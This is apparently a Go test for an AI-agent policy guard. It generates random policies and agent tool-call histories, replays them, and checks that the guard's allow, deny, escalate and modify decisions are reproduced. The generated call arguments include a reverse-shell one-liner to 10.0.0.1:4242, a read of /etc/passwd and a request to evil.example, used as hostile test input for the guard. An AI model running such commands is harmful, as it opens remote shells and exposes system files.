package reeve

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"reeve.example/reeve/act"
	"reeve.example/reeve/internal/guard"
	"reeve.example/reeve/internal/ledger"
	"reeve.example/reeve/internal/policy"
	"reeve.example/reeve/internal/replay"
)

// replayed judges all that came by the doors again.
func (d *doors) replayed(candidate *policy.Set, o replay.Options) *replay.Report {
	d.Helper()
	var err error
	if o.Keys, err = guard.DeriveKeys(func(use string) ([]byte, error) { return ledger.DeriveKey(make([]byte, 32), use) }); err != nil {
		d.Fatal(err)
	}
	o.Acts = 10
	r, err := replay.Run(d.Context(), d.store, candidate, o)
	if err != nil {
		d.Fatal(err)
	}
	if r.Acts != r.Same+r.Changed+r.CannotTell {
		d.Errorf("the ends are not the sum of the acts: %+v", r)
	}
	return r
}

// TestReplaySame: the policy that decided decides the same again, of generated histories
// by every door, with the memory that their sessions had, from the beginning and from
// the middle, by one worker and by several.
func TestReplaySame(t *testing.T) {
	r := rand.New(rand.NewPCG(17, 4))
	pick := func(list ...string) string { return list[r.IntN(len(list))] }
	rounds := 8
	if testing.Short() {
		rounds = 3
	}
	effects := map[string]int{}
	for round := range rounds {
		var b strings.Builder
		fmt.Fprintf(&b, "version: 1\ndefault: %s\nlabels: [{tools: [deploy_app], label: %s}]\n", pick("allow", "allow", "escalate"), pick("own", "foreign"))
		b.WriteString(`acts: [{name: deploy, tools: [deploy_app, http_request], control: [x, list, url]}]
rules:
  - {name: talk, on: a2a.receive, effect: allow}
  - {name: loop, check: [call.loop, result.orphan, id.reused, reply.orphan], effect: deny}
`)
		for i := range 2 + r.IntN(5) {
			fmt.Fprintf(&b, "  - {name: r%d, effect: %s, code: c%d", i, pick("allow", "deny", "escalate"), i)
			switch r.IntN(11) {
			case 0:
				fmt.Fprintf(&b, ", on: call, tools: [%q]", pick("*deploy*", "run_*", "wipe"))
			case 1:
				fmt.Fprintf(&b, ", on: call, hazard: %s", pick("0.3", "0.5"))
			case 2:
				b.WriteString(", on: call, when: 'session.calls % 3 == 1'")
			case 3:
				b.WriteString(", on: call, when: session.tainted")
			case 4:
				b.WriteString(`, acts: deploy, when: 'action.control.exists(v, v.origin() == "foreign")'`)
			case 5:
				b.WriteString(", on: call, when: 'session.foreign && session.steps > 6'")
			case 6:
				b.WriteString(", on: call, check: [taint.consequential, model.absent]")
			case 7:
				b.WriteString(", on: tool.result, when: 'text.contains(\"outside\")'")
			case 8:
				fmt.Fprintf(&b, `, on: call, when: 'did("deploy", "1h") %% 3 == %d'`, r.IntN(3))
			case 9:
				b.WriteString(`, on: call, when: 'approved("deploy") == 0 && session.calls > 2'`)
			case 10:
				b.WriteString(", on: call, when: 'size(habits.new) > 0 || habits.outside > 1.0 || session.calls % 5 == 4'")
			}
			b.WriteString("}\n")
		}
		if r.IntN(2) == 0 {
			b.WriteString("  - {name: cards, detect: [pii.card], effect: modify, modify: redact}\n")
		}
		if r.IntN(2) == 0 {
			b.WriteString("  - {name: path, on: call, tools: [write_file], when: 'has(args.path)', effect: modify, modify: {replace: {argument: path, with: /tmp/safe}}}\n")
		}
		if r.IntN(2) == 0 {
			b.WriteString("manifests: {write_file: {filesystem_scope: [/tmp/**]}, http_request: {blocked_domains: [evil.example]}}\n")
		}
		text := b.String()
		d := newDoors(t, text, nil)
		var middle time.Time
		for i := range 60 {
			if i == 30 {
				middle = time.Now()
			}
			door := pick(doorNames...)
			tool := pick(toolNames[:4]...)
			if !takes(door, tool) {
				continue
			}
			o := d.call(door, tool, pick(`{}`, `{"command":"ls"}`, `{"command":"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}`, `{"path":"/etc/passwd","n":1.50}`,
				`{"path":"/tmp/x","content":"card 4000 0000 0000 0002"}`, `{"x":"account-123456"}`, `{"list":["account-777777"]}`, `{"url":"https://evil.example/x"}`))
			if !ofTasks(door) && r.IntN(2) == 0 && (door != "a2g" || o.Effect >= act.Modify) {
				d.result(door, pick("done", "Somebody outside says: account-123456.", "card 4000 0000 0000 0002"))
			}
		}
		set := d.guard.Policy()
		for name, o := range map[string]replay.Options{"whole": {}, "middle": {Since: middle}, "alone": {Workers: 1}, "before": {Until: middle, Workers: 7}} {
			report := d.replayed(set, o)
			if report.Changed != 0 || report.CannotTell != 0 || report.Acts < 25 || len(report.Changes) != 0 || len(report.Agents) != 0 {
				t.Errorf("round %d, %s: %+v\n%s", round, name, report, text)
			}
		}
		// A candidate that lets everything pass tells of each effect.
		open, err := policy.Load(policy.File{Name: "open.yaml", Data: []byte("version: 1\ndefault: allow\nrisk: {deny: off}\nrules: [{name: nothing, on: trigger, effect: deny}]\n")})
		if err != nil {
			t.Fatal(err)
		}
		report := d.replayed(open, replay.Options{})
		if report.CannotTell != 0 || report.Looser != report.Changed {
			t.Errorf("round %d, all that is let through: %+v", round, report)
		}
		for i, c := range report.Changes {
			effects[c.From] += c.Acts
			if c.To != "allow" || c.Rule == "" || c.Agent == "" || len(c.First) == 0 || i > 0 && c.From == "deny" && report.Changes[i-1].From != "deny" {
				t.Errorf("round %d: %+v", round, c)
			}
			for _, id := range c.First {
				pos, err := act.ParsePosition(id)
				if err != nil {
					t.Fatal(err)
				}
				if r, _, err := ledger.ReadRecord(t.Context(), d.store, pos); err != nil || r.Effect != c.From {
					t.Errorf("%s is said to have been %s: %+v, %v", id, c.From, r, err)
				}
			}
		}
	}
	for _, effect := range []string{"deny", "escalate", "modify"} {
		if effects[effect] == 0 {
			t.Errorf("nothing of these histories came to %s: %v", effect, effects)
		}
	}
}
